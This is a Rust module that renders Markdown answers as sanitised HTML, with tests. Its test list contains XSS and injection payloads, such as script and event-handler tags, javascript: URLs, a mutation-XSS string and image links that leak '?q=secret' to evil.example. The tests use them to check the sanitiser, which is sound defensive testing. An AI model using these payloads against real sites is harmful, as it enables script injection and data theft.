//! Renders the Markdown of an answer as safe HTML, with two defences: raw HTML and images are
//! replaced in the parser's events, and a sanitiser keeps only the tags that Markdown needs.

mod nesting;

use ammonia::{Builder, UrlRelative};
use nesting::Nesting;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd, html};
use std::{
    borrow::Cow,
    collections::{HashMap, HashSet},
    sync::LazyLock,
};

const TAGS: [&str; 26] = [
    "a",
    "blockquote",
    "br",
    "code",
    "del",
    "div",
    "em",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "li",
    "ol",
    "p",
    "pre",
    "strong",
    "table",
    "tbody",
    "td",
    "th",
    "thead",
    "tr",
    "ul",
];
const OPTIONS: Options = Options::ENABLE_TABLES
    .union(Options::ENABLE_STRIKETHROUGH)
    .union(Options::ENABLE_TASKLISTS);
/// A wide table scrolls inside this element, also by keyboard, instead of widening the page.
const TABLE_WRAPPER: &str = r#"<div class="table-scroll" tabindex="0">"#;

static SANITISER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut builder = Builder::default();
    builder
        .tags(HashSet::from(TAGS))
        .tag_attributes(HashMap::from([
            ("a", HashSet::from(["href", "title"])),
            ("code", HashSet::from(["class"])),
            ("div", HashSet::from(["class", "tabindex"])),
            ("ol", HashSet::from(["start"])),
        ]))
        .generic_attributes(HashSet::new())
        .url_schemes(HashSet::from(["http", "https", "mailto"]))
        .url_relative(UrlRelative::Deny)
        .link_rel(Some("noopener noreferrer nofollow ugc"))
        .attribute_filter(allowed_value);
    builder
});

/// Renders `markdown` (CommonMark with tables, strikethrough and task lists) as HTML for
/// `inner_html`. Nesting is bounded, see [`nesting`]. Images become their alternative text: a URL
/// in an answer must not make the browser send a request.
pub fn render(markdown: &str) -> String {
    let markdown = nesting::bounded(markdown);
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    let mut nesting = Nesting::default();
    let events = Parser::new_ext(&markdown, OPTIONS).filter_map(|event| nesting.bound(event));
    html::push_html(&mut unsafe_html, events.flat_map(make_safe));
    SANITISER.clean(&unsafe_html).to_string()
}

/// Replaces an event by up to two safe ones.
fn make_safe(event: Event<'_>) -> impl Iterator<Item = Event<'_>> {
    let (first, second) = match event {
        Event::Html(text) | Event::InlineHtml(text) => (Some(Event::Text(text)), None),
        Event::Start(Tag::HtmlBlock) => (Some(Event::Start(Tag::Paragraph)), None),
        Event::End(TagEnd::HtmlBlock) => (Some(Event::End(TagEnd::Paragraph)), None),
        Event::Start(Tag::Image { .. }) | Event::End(TagEnd::Image) => (None, None),
        Event::TaskListMarker(done) => (
            Some(Event::Text(if done { "☑ " } else { "☐ " }.into())),
            None,
        ),
        table @ Event::Start(Tag::Table(_)) => {
            (Some(Event::Html(TABLE_WRAPPER.into())), Some(table))
        }
        table @ Event::End(TagEnd::Table) => (Some(table), Some(Event::Html("</div>\n".into()))),
        other => (Some(other), None),
    };
    first.into_iter().chain(second)
}

fn allowed_value<'v>(tag: &str, attribute: &str, value: &'v str) -> Option<Cow<'v, str>> {
    let allowed = match (tag, attribute) {
        ("code", "class") => value.strip_prefix("language-").is_some_and(is_language),
        ("div", "class") => value == "table-scroll",
        ("div", "tabindex") => value == "0",
        _ => true,
    };
    allowed.then_some(Cow::Borrowed(value))
}

fn is_language(name: &str) -> bool {
    !name.is_empty()
        && name
            .bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || b"+#-_.".contains(&byte))
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    /// Whether `html` contains only tags, attributes and URLs that [`render`] may write.
    fn is_harmless(html: &str) -> bool {
        let lower = html.to_lowercase();
        let tags = lower
            .split('<')
            .skip(1)
            .map(|rest| rest.split('>').next().unwrap_or(rest));
        tags.into_iter().all(|tag| {
            let name = tag
                .trim_start_matches('/')
                .split([' ', '\n'])
                .next()
                .unwrap_or(tag);
            let known = TAGS.contains(&name);
            let mut addresses = tag.split("href=\"").skip(1);
            let safe = addresses.all(|to| {
                ["http://", "https://", "mailto:"]
                    .iter()
                    .any(|scheme| to.starts_with(scheme))
            });
            known && safe && !tag.contains("src=") && !tag.contains("style=")
        })
    }

    #[test]
    fn scripts_and_remote_requests_are_removed() {
        for attempt in [
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "a <img src=x onerror=alert(1)> b",
            "<svg/onload=alert(1)>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<style>@import 'https://evil.example'</style>",
            "<p style=\"background:url(https://evil.example)\">x</p>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](java&#10;script:alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](data:text/html;base64,PHNjcmlwdD4=)",
            "[x](vbscript:msgbox(1))",
            "[x](//evil.example/a)",
            "[x](/sign-out)",
            "[x](https://a.example \"t\\\" onmouseover=alert(1) \\\"\")",
            "<javascript:alert(1)>",
            "![leak](https://evil.example/?q=secret)",
            "![leak][r]\n\n[r]: https://evil.example/?q=secret",
            "[![leak](https://evil.example/p.png)](javascript:alert(1))",
            "```\"><script>alert(1)</script>\nx\n```",
            "```x onmouseover=alert(1)\nx\n```",
            "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "</div></main><form action=https://evil.example><button>x",
        ] {
            let html = render(attempt);
            assert!(is_harmless(&html), "{attempt}\n{html}");
        }
    }

    #[test]
    fn raw_html_is_shown_as_text() {
        assert_eq!(
            render("Use `<b>` or <b>bold</b>").trim(),
            "<p>Use <code>&lt;b&gt;</code> or &lt;b&gt;bold&lt;/b&gt;</p>"
        );
        assert_eq!(
            render("<script>alert(1)</script>").trim(),
            "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
        );
    }

    #[test]
    fn an_image_becomes_its_alternative_text() {
        assert_eq!(
            render("See ![a *red* fox](https://evil.example/?q=1) run").trim(),
            "<p>See a <em>red</em> fox run</p>"
        );
    }

    #[test]
    fn a_link_sends_no_referrer() {
        let html = render("[docs](https://example.org/a?b=1&c=2) and <me@example.org>");
        assert!(html.contains(r#"<a href="https://example.org/a?b=1&amp;c=2" rel="noopener noreferrer nofollow ugc">docs</a>"#), "{html}");
        assert!(html.contains(r#"href="mailto:me@example.org""#), "{html}");
    }

    #[test]
    fn a_long_answer_keeps_its_structure() {
        let html = render(
            "# Title\n\n## Part\n\nSome **strong**, *soft*, ~~gone~~ words.\n\n1. one\n2. two\n   - deep\n\n- [x] done\n- [ ] open\n\n\
             | a | b |\n|:--|--:|\n| 1 | 2 |\n\n```rust\nfn main() { a < b; }\n```\n\n> quoted\n\n---\n\nEnd  \nof it.\n",
        );
        for part in [
            "<h1>Title</h1>",
            "<h2>Part</h2>",
            "<strong>strong</strong>, <em>soft</em>, <del>gone</del>",
            "<ol>\n<li>one</li>\n<li>two\n<ul>\n<li>deep</li>",
            "<li>☑ done</li>\n<li>☐ open</li>",
            "<div class=\"table-scroll\" tabindex=\"0\"><table><thead><tr><th>a</th><th>b</th></tr></thead><tbody>\n<tr><td>1</td><td>2</td></tr>",
            "</table>\n</div>",
            "<pre><code class=\"language-rust\">fn main() { a &lt; b; }\n</code></pre>",
            "<blockquote>\n<p>quoted</p>\n</blockquote>",
            "<hr>",
            "End<br>\nof it.",
        ] {
            assert!(html.contains(part), "{part}\n{html}");
        }
    }

    #[test]
    fn deep_nesting_does_not_overflow() {
        assert!(is_harmless(&render(&"> ".repeat(5_000))));
        assert!(is_harmless(&render(&"[".repeat(5_000))));
    }

    proptest! {
        #[test]
        fn any_markdown_renders_to_harmless_html(text in "[\\[\\]()<>!a-c\"'`*|:/ \n=&;-]{0,80}") {
            prop_assert!(is_harmless(&render(&text)));
        }
    }
}
